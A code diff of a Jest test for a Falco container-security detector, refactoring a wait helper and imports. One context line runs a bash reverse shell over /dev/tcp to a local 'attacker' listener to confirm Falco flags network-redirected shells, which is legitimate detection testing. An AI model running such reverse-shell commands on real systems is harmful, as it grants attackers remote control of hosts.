@@ -1,15 +1,9 @@
 import { once } from 'node:events';
 import { createServer, type AddressInfo } from 'node:net';
-import {
-  TestNode,
-  TestNodes,
-  TEST_TIMEOUT_MS,
-  until,
-} from '../kubelet/testing/TestNodes';
+import { TestNode, TestNodes } from '../kubelet/testing/TestNodes';
+import { waitUntil } from '../testing/waitUntil';
 import { Falco } from './Falco';
 import { formatAlert } from './describeAlert';
-
-jest.setTimeout(TEST_TIMEOUT_MS);
 
 describe('Falco', () => {
   const falco = new Falco('cluster1', 'secret');
@@ -23,7 +17,7 @@ describe('Falco', () => {
     [node] = all.nodes;
     falco.watch('cluster1-a', node.runtime);
     pod = node.run({ image: 'registry.lab/demo/web:1' });
-    await until('it serves', () => node.linesOf(pod).length > 0);
+    await waitUntil('it serves', () => node.linesOf(pod).length > 0);
     containerId = node.containerOf(pod).containerID.split('//')[1];
   });
 
@@ -116,7 +110,7 @@ describe('Falco', () => {
       `bash -i >& /dev/tcp/127.173.99.1/${port} 0>&1`,
     );
     attacker.close();
-    await until('the attacker reads', () => heard.join('').includes(pod));
+    await waitUntil('the attacker reads', () => heard.join('').includes(pod));
     expect(alerts.map(alert => alert.rule)).toEqual(
       Array(3).fill('Redirect STDOUT/STDIN to Network Connection in Container'),
     );
